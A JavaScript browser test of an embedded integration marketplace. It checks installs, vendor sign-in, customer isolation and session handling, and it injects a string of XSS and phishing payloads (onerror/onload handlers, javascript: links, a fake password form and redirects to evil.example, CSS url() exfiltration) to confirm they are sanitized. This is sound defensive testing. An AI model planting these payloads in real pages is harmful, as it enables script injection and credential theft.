// Walks through what two customers of a vendor do in one browser, and what people try who wish them ill: see embed_together_test.go.
import assert from "node:assert/strict";

import { api } from "./embed_api.mjs";
import { chromium, flags, look, press, problemsOf, sizes } from "./look.mjs";

const { HOST, CHROMIUM, REMOTE, VENDOR, BASE, MARKETPLACE } = process.env;

const hostile = `<p class="slogan" style="position:fixed;inset:0" onclick="window.ran=1">All your tools</p><svg onload="window.ran=1"><a xlink:href="javascript:window.ran=1">x</a></svg>
  <a id="way" href="javascript:window.ran=1">way</a><iframe src="https://evil.example"></iframe><meta http-equiv="refresh" content="0; url=https://evil.example"><base href="https://evil.example/">
  <form action="https://evil.example"><input name="password"><button>Sign in</button></form><style>body { display: none }</style><link rel="stylesheet" href="https://evil.example/x.css">
  <object data="x"></object><math><mtext><img src=x onerror="window.ran=1"></mtext></math>`;

// arrange makes a marketplace as its builder does: a text, categories within each other, packages and a link.
async function arrange() {
  const all = (await api("GET", "/templates")).map((t) => [t.Name, t.Id]);
  const id = (name) => all.find(([n]) => n === name)[1];
  const cards = [
    { Kind: "Text", Description: `<h2>Welcome</h2>${hostile}` },
    { Kind: "Category", Title: "Shops", Cards: [{ Kind: "Category", Title: "Orders", Cards: [
      { Kind: "Package", Title: "Orders to Acme", Description: hostile, TemplateIds: [id("Orders to Acme")], Tags: ["orders"], AutoStart: true, AskName: true, CompleteMessage: `<p>Enjoy</p>${hostile}` }] }] },
    { Kind: "Package", Title: "Who is at Acme", TemplateIds: [id("Who is at Acme")], Tags: ["people"], Single: true },
    { Kind: "Link", Title: "Ask us", Url: "https://stockroom.example/ask" },
  ];
  await api("PUT", `/marketplaces/${MARKETPLACE}`, { Cards: cards, Search: true, TagFilter: true, HeaderHtml: hostile, Columns: 2 });
  await api("PUT", "/branding", { Name: "Harbour", HeaderHtml: hostile, FooterHtml: hostile, Css: ".slogan { color: #b00020 }" });
  for (const url of ["javascript:window.ran=1", "data:text/html,x", "//evil.example"]) {
    await api("PUT", `/marketplaces/${MARKETPLACE}`, { Cards: [{ Kind: "Link", Title: "x", Url: url }] }, undefined, 400);
  }
  for (const css of [".x { background: url(https://evil.example/?) }", "@import 'https://evil.example/x.css';", "input[value^=a] { color: red }", "html { display: none } .x { position: fixed }", ".x { content: 'Sign in' }",
    ".x { color: red } </style><script>window.ran=1</script>", "@font-face { src: url(x) }", ".x { behavior: expression(1) }"]) {
    await api("PUT", "/branding", { Css: css }, undefined, 400);
  }
}

// harmless: nothing of the hostile HTML has run, loads or asks anything, or lies over the page.
async function harmless(frame, name) {
  await frame.getByText("All your tools").first().waitFor();
  const found = await frame.locator("html").evaluate(() => ({
    ran: window.ran, base: document.baseURI.startsWith("https://evil"), shown: getComputedStyle(document.body).display,
    bad: [...document.querySelectorAll(".partner *")].filter((e) => /^(script|iframe|object|form|input|button|style|link|meta|base|svg|math|embed)$/i.test(e.tagName) || [...e.attributes].some((a) => /^on|^style$/i.test(a.name) || /^\s*javascript:/i.test(a.value))).map((e) => e.outerHTML),
    over: [...document.querySelectorAll(".partner, .partner *")].filter((e) => getComputedStyle(e).position === "fixed").length,
  }));
  assert.deepEqual(found, { ran: undefined, base: false, shown: "block", bad: [], over: 0 }, name);
}

// fits waits until a frame of the host page is as tall as what is in it.
async function fits(page, frame, iframe, name) {
  const tall = await page.waitForFunction(async ([f, want]) => Math.abs(f.getBoundingClientRect().height - want) < 2,
    [await iframe.elementHandle(), await frame.locator("html").evaluate((r) => Math.ceil(r.getBoundingClientRect().height))], { timeout: 5000 }).catch(() => null);
  assert.ok(tall, `${name}: the frame is not as tall as its page`);
}

async function signIn(page, user) {
  await page.goto(HOST);
  await page.getByLabel("Who are you?").selectOption(user);
  await page.getByRole("button", { name: "Sign in" }).click();
  await page.getByText("Signed in as").waitFor();
}

async function atVendor(page, click) {
  const [vendor] = await Promise.all([page.waitForEvent("popup"), click()]);
  await vendor.locator("input[name=login]").fill("dana");
  await vendor.locator("input[name=password]").fill("whatever");
  await vendor.locator("button[type=submit]").click();
  await vendor.getByText("Authorize").first().waitFor();
  await Promise.all([vendor.waitForEvent("close"), vendor.locator("button[type=submit]").click()]);
}

// preauthenticated installs through LAUNCH, as the application opens it, what needs the vendor's own product, whose credential comes with
// the address, and an application where the customer signs in.
async function preauthenticated(page, account) {
  await page.evaluate(() => {
    const open = Integrations.open;
    Integrations.open = (options) => {
      const opened = open(options);
      if (options.mode === "modal") opened.result.then((r) => { window.launched = r; });
      return opened;
    };
  });
  await press(page, page.getByRole("button", { name: "Add an integration" }));
  const frame = page.frameLocator('dialog iframe[title="Add an integration"]');
  await frame.getByRole("button", { name: "Connect: Orders to Acme" }).click();
  await frame.getByLabel("Address").waitFor();
  const steps = await frame.locator(".steps li").allInnerTexts();
  assert.deepEqual(steps.map((s) => s.replace(/^[\d✓\s]+/, "")), ["Acme", "Done"], "nobody is asked for what the vendor has");
  await frame.getByLabel("Address").fill(VENDOR);
  await atVendor(page, () => frame.getByRole("button", { name: "Sign in to Acme" }).click());
  await frame.getByText("Acme is connected").waitFor();
  await frame.getByRole("button", { name: "Start integration" }).click();
  await page.waitForFunction(() => window.launched);
  const result = await page.evaluate(() => window.launched);
  assert.deepEqual([result.accountApiId, result.status, result.completeParameter, result.errors], [account, "Active", "from-stockroom", []]);
  const connectors = await api("GET", "/account/connectors", undefined, account);
  assert.deepEqual(connectors.map((c) => [c.Name, c.IsPartnerIntegrationConnector, c.Authenticated]).sort(), [["Acme", false, true], ["Stockroom", true, true]]);
  assert.ok(!JSON.stringify(connectors).includes("sk_"), "the credential is not read back");
  await page.keyboard.down("Escape"); // which the frame hears, where the focus is; the key comes up when it is gone
  await page.locator("dialog").waitFor({ state: "detached" });
  await page.keyboard.up("Escape");
}

// orders: what a customer orders in the vendor's product is read there by the customer's integration, with the customer's own key.
async function orders(page, size) {
  const rows = page.locator("#orders tr");
  const before = await rows.count();
  await press(page, page.getByRole("button", { name: "Place an order" }));
  await page.getByText(/is placed; integrations that were told: 1\./).waitFor();
  const mine = rows.nth(before);
  await mine.getByRole("cell", { name: "1", exact: true }).waitFor();
  await page.getByRole("heading", { name: "Orders" }).scrollIntoViewIfNeeded();
  await look(page, `together-orders-${size.name}`, "body");
  return await mine.getByRole("cell").first().innerText();
}

// shelf goes through the arranged marketplace: tags, search, categories and back, a named install that is taken back.
async function shelf(page, size) {
  const iframe = page.locator("#marketplace iframe");
  const market = page.frameLocator("#marketplace iframe");
  await market.getByRole("heading", { name: "Add-ons" }).waitFor();
  await harmless(market, "the marketplace");
  await fits(page, market, iframe, "the shelf");
  await press(page, market.getByRole("button", { name: "people", exact: true }));
  await market.getByRole("button", { name: "Open: Shops" }).waitFor({ state: "detached" });
  await fits(page, market, iframe, "what has a tag");
  await press(page, market.getByRole("button", { name: "All", exact: true }));
  await market.getByRole("searchbox").fill("orders to");
  await market.getByRole("heading", { name: "Orders to Acme" }).waitFor();
  await market.getByRole("searchbox").fill("");
  await press(page, market.getByRole("button", { name: "Open: Shops" }));
  await press(page, market.getByRole("button", { name: "Open: Orders" }));
  await market.getByRole("heading", { name: "Orders", exact: true }).waitFor();
  await look(page, `together-category-${size.name}`, "body");
  await press(page, market.getByRole("button", { name: /: Orders to Acme$/ }).last());
  const dialog = market.getByRole("dialog");
  await dialog.waitFor();
  const place = await dialog.evaluate((d) => ({ top: d.getBoundingClientRect().top, bottom: d.getBoundingClientRect().bottom, page: document.documentElement.getBoundingClientRect().height }));
  assert.ok(place.top >= 0 && place.bottom <= place.page + 1, `the dialog is within the frame: ${JSON.stringify(place)}`);
  await dialog.getByLabel("Name").fill("Second shop");
  await look(page, `together-name-${size.name}`, "body");
  await press(page, dialog.getByRole("button", { name: "Next" }));
  await market.getByRole("heading", { name: "Second shop" }).waitFor();
  const top = await iframe.evaluate((f) => f.getBoundingClientRect().top);
  assert.ok(top > -1, `the set-up is seen from its beginning: ${top}`);
  await press(page, market.getByRole("button", { name: "Cancel" }));
  await market.getByRole("heading", { name: "Add-ons" }).or(market.getByRole("heading", { name: "Orders", exact: true })).first().waitFor();
  await fits(page, market, iframe, "the shelf again");
}

// adds goes from ORBIT within a frame to what may be added: the frame keeps its session and stays when the page is closed.
async function adds(page, account) {
  const { OrbitUrl } = await api("POST", `/accounts/${account}/orbit`, { AddIntegration: true, Tags: ["orders"] });
  await page.evaluate((url) => {
    const place = document.createElement("div");
    place.id = "place";
    document.body.append(place);
    window.shut = false;
    Integrations.open({ url, mode: "inline", target: place, onClose: () => { window.shut = true; } }).result.then((r) => { window.ended = r; });
  }, OrbitUrl);
  const frame = page.frameLocator("#place iframe");
  await press(page, frame.getByRole("link", { name: "Add integration" }));
  await frame.getByRole("heading", { name: "Orders to Acme" }).waitFor(); // a single one is not chosen from a list
  await press(page, frame.getByRole("button", { name: "Cancel" }));
  await page.waitForFunction(() => window.shut && window.ended === null);
  await frame.getByRole("button", { name: /: Orders to Acme$/ }).waitFor(); // and is not begun again by itself
  await page.locator("#place").evaluate((place) => place.remove());
}

// changes: what ran runs again after a change, also when nothing is changed, and what was paused stays so.
async function changes(context, account) {
  const { OrbitUrl } = await api("POST", `/accounts/${account}/orbit`, {});
  const page = await context.newPage();
  await page.goto(OrbitUrl);
  const button = (what) => page.getByRole("button", { name: `${what}: Orders to Acme` });
  await button("Pause").waitFor();
  assert.equal(await page.getByRole("link", { name: "Add integration" }).count(), 0, "nobody has asked for that");
  await button("Change").click();
  await page.getByRole("dialog").getByRole("button", { name: "Change", exact: true }).click();
  await page.getByRole("button", { name: "Cancel" }).click();
  await button("Pause").waitFor();
  await button("Pause").click();
  await page.getByRole("dialog").getByRole("button", { name: "Pause", exact: true }).click();
  await button("Resume").waitFor();
  await button("Change").click();
  await page.getByRole("button", { name: "Finish", exact: true }).click();
  await page.getByText("It is not started.").waitFor();
  await page.getByRole("button", { name: "Close", exact: true }).click();
  await button("Resume").click();
  await button("Pause").waitFor();
  await page.close();
}

// ownScreen is the host's: a switch that calls the API, and what the customer then sees in ORBIT.
async function ownScreen(page, account) {
  await page.reload();
  await press(page, page.getByRole("button", { name: "Stop: Orders to Acme" }));
  await page.getByRole("button", { name: "Start: Orders to Acme" }).waitFor();
  const [cycle] = await api("GET", "/cycles", undefined, account);
  assert.equal(cycle.Status, "Paused");
  await page.locator("#templates").selectOption({ label: "Who is at Acme" });
  await press(page, page.getByRole("button", { name: "Install", exact: true }));
  await press(page, page.getByRole("button", { name: "Remove: Who is at Acme" }));
  await page.getByRole("button", { name: "Remove: Who is at Acme" }).waitFor({ state: "detached" });
}

// ownSetUp connects and asks for values on the host's own screen, by the API alone: an application by its key, one whose vendor asks the
// customer, and what only the customer knows. What was installed runs then with what was typed.
async function ownSetUp(page, account, size) {
  const known = (await api("GET", "/account/connectors", undefined, account)).find((c) => c.Name === "Acme");
  await api("PUT", `/account/connectors/${known.Id}/deauthenticate`, {}, account);
  await page.locator("#templates").selectOption({ label: "Greetings to the CRM" });
  await press(page, page.getByRole("button", { name: "Install", exact: true }));
  const form = page.locator("#set-up");
  await form.getByRole("heading", { name: "Set up Greetings to the CRM" }).waitFor();
  const crm = form.getByRole("group", { name: "Connect Harbour CRM" });
  await crm.getByLabel("Address").fill(REMOTE);
  await crm.locator("input[type=password]").fill("a key");
  await look(page, `together-own-set-up-${size.name}`, "body");
  await press(page, crm.getByRole("button", { name: "Connect Harbour CRM" }));
  await crm.waitFor({ state: "detached" });
  const acme = form.getByRole("group", { name: "Connect Acme" });
  assert.equal(await acme.getByLabel("Address").inputValue(), VENDOR, "what was typed before is there");
  await page.context().clearCookies({ domain: new URL(VENDOR).hostname }); // the vendor asks anew who it is
  await atVendor(page, () => press(page, acme.getByRole("button", { name: "Sign in to Acme" })));
  await acme.waitFor({ state: "detached" });
  await form.getByLabel("Greeting").fill("Good morning");
  await form.getByLabel("Ticket: Priority").selectOption("high");
  await look(page, `together-own-values-${size.name}`, "body");
  await press(page, form.getByRole("button", { name: "Save and start" }));
  await press(page, page.getByRole("button", { name: "Stop: Greetings to the CRM" }));
  await page.getByRole("button", { name: "Start: Greetings to the CRM" }).waitFor();
  const cycle = (await api("GET", "/cycles", undefined, account)).find((c) => c.Name === "Greetings to the CRM");
  const [greeting] = await api("GET", `/cycles/${cycle.Id}/variables`, undefined, account);
  const steps = await api("GET", `/cycles/${cycle.Id}/steps`, undefined, account);
  const fields = await api("GET", `/steps/${steps.find((s) => s.Name === "Ticket").Id}/fieldmappings`, undefined, account);
  assert.deepEqual([greeting.Value, fields.find((f) => f.IsLaunchVisible).Value], ["Good morning", "high"]);
  await press(page, page.getByRole("button", { name: "Remove: Greetings to the CRM" }));
  await page.getByRole("button", { name: "Remove: Greetings to the CRM" }).waitFor({ state: "detached" });
}

// inWindow gives a vendor's consent in the same window: the page goes there, and comes back to where it was.
async function inWindow(context) {
  const account = "cedar";
  const { LaunchUrl } = await api("POST", `/accounts/${account}/launch`, { Tags: ["acme"], InlineOAuth: true, CompleteParameter: "inline" });
  const page = await context.newPage();
  await page.goto(LaunchUrl);
  const before = page.url();
  await page.getByLabel("Address").fill(VENDOR);
  await page.getByRole("button", { name: "Sign in to Acme" }).click();
  await page.locator("input[name=login]").fill("dana");
  await page.locator("input[name=password]").fill("whatever");
  await page.locator("button[type=submit]").click();
  await page.getByText("Authorize").first().waitFor();
  await page.locator("button[type=submit]").click();
  await page.getByRole("button", { name: /^(Start integration|Finish)$/ }).waitFor();
  assert.equal(new URL(page.url()).origin + new URL(page.url()).pathname, new URL(before).origin + new URL(before).pathname, "it is the page it was");
  assert.equal(context.pages().filter((p) => p.url().startsWith(VENDOR)).length, 0, "no window was opened");
  assert.ok(!/token=|state=|code=/.test(page.url()), page.url());
  await page.getByRole("button", { name: "Start integration" }).click();
  await page.getByText("It runs now.").waitFor();
  await page.close();
  const cycle = (await api("GET", "/cycles", undefined, account)).find((c) => c.Name === "Who is at Acme");
  assert.equal(cycle.Status, "Active");
}

// left: a page that is closed during a change leaves word of it, and another goes on from there.
async function left(context, page, account, size) {
  const open = async () => {
    const { OrbitUrl } = await api("POST", `/accounts/${account}/orbit`, {});
    const page = await context.newPage();
    await page.goto(OrbitUrl);
    return page;
  };
  const first = await open();
  await first.getByRole("button", { name: "Change: Orders to Acme" }).click();
  await first.getByRole("dialog").getByRole("button", { name: "Change", exact: true }).click();
  await first.getByRole("button", { name: "Cancel" }).waitFor();
  await first.close();
  const second = await open();
  await second.getByText("Being changed").waitFor();
  await second.getByRole("button", { name: "Go on: Orders to Acme" }).click();
  await second.getByRole("button", { name: "Cancel" }).click();
  await second.getByRole("button", { name: "Pause: Orders to Acme" }).waitFor();
  await second.getByText("Orders to Acme was started").first().waitFor(); // of the last events
  const order = await orders(page, size);
  await second.getByText("Orders to Acme: done").waitFor(); // the page looks again by itself
  await second.getByText("3 tasks this month").waitFor();
  await look(second, `together-orbit-${account}`);
  await second.close();
  return order;
}

// beside: two customers' pages in one browser, each in a window of its own.
async function beside(context) {
  const pages = {}, installs = {};
  for (const account of ["aster", "birch"]) {
    const { OrbitUrl } = await api("POST", `/accounts/${account}/orbit`, {});
    pages[account] = await context.newPage();
    await pages[account].goto(OrbitUrl);
    assert.ok(!/token|session/.test(pages[account].url()), pages[account].url());
    const again = await context.newPage();
    const answer = await again.goto(OrbitUrl);
    assert.equal(answer.status(), 403, "a link opens once");
    await again.getByText("403 – Forbidden: Access is denied.").waitFor();
    await again.close();
  }
  for (let round = 0; round < 2; round++) {
    for (const [account, page] of Object.entries(pages)) {
      await page.reload();
      await page.getByRole("button", { name: /: Orders to Acme$/ }).first().waitFor();
      const said = await page.evaluate(async () => (await fetch("/embed/data/orbit", { headers: { "X-Embed-Visit": new URLSearchParams(location.search).get("visit") } })).json());
      assert.deepEqual([said.Visitor.AccountAPIID, said.Integrations.length], [account, 1], "each window keeps to its customer");
      installs[account] = said.Integrations[0].ID;
      if (round === 0) continue;
      const other = await page.evaluate(async (id) => (await fetch(`/embed/data/setup/${id}`, { headers: { "X-Embed-Visit": new URLSearchParams(location.search).get("visit") } })).status, installs[account === "aster" ? "birch" : "aster"]);
      assert.equal(other, 404, "another customer's set-up is not there");
    }
  }
  for (const page of Object.values(pages)) await page.close();
}

// withoutCookies: the frame's browser keeps nothing of ours, and the session stands in no address.
async function withoutCookies(page) {
  const frame = () => page.frames().find((f) => f.url().startsWith(BASE) && f.url().includes("/launch/marketplace/"));
  await page.frameLocator("#marketplace iframe").getByRole("heading", { name: "Add-ons" }).waitFor();
  assert.ok(!/session=|token=|#/.test(frame().url()), frame().url());
  const state = await frame().evaluate(async () => {
    const visit = new URLSearchParams(location.search).get("visit");
    const bare = await fetch(`/embed/data/orbit`, { headers: { "X-Embed-Visit": visit } });
    let stored = "denied";
    try { stored = String(sessionStorage.length); } catch { /* as said */ }
    return [bare.status, stored];
  });
  assert.deepEqual(state, [403, "denied"], "no cookie is sent and nothing stored: the page's memory alone has the session");
}

const browser = await chromium.launch({ executablePath: CHROMIUM, args: [...flags, "--test-third-party-cookie-phaseout"] });
try {
  await arrange();
  const placed = [];
  for (const size of sizes) {
    const account = size.name === "wide" ? "aster" : "birch";
    const context = await browser.newContext({ viewport: { width: size.width, height: size.height } });
    const page = await context.newPage();
    const problems = problemsOf(page, /status of (40[034])/);
    await signIn(page, size.name === "wide" ? "dana" : "sam");
    await withoutCookies(page);
    await preauthenticated(page, account);
    await page.reload();
    await shelf(page, size);
    if (size.name === "wide") await adds(page, account);
    await changes(context, account);
    placed.push(await left(context, page, account, size));
    await ownScreen(page, account);
    await ownSetUp(page, account, size);
    await look(page, `together-host-${size.name}`, "body");
    assert.deepEqual(await page.locator("#orders tr td:first-child").allInnerTexts(), placed.slice(-1), "nobody sees another's orders");
    assert.deepEqual(problems, [], "no page reports an error");
    await context.close();
  }
  for (const walk of [beside, inWindow]) {
    const context = await browser.newContext();
    await walk(context);
    await context.close();
  }
} finally {
  await browser.close();
}
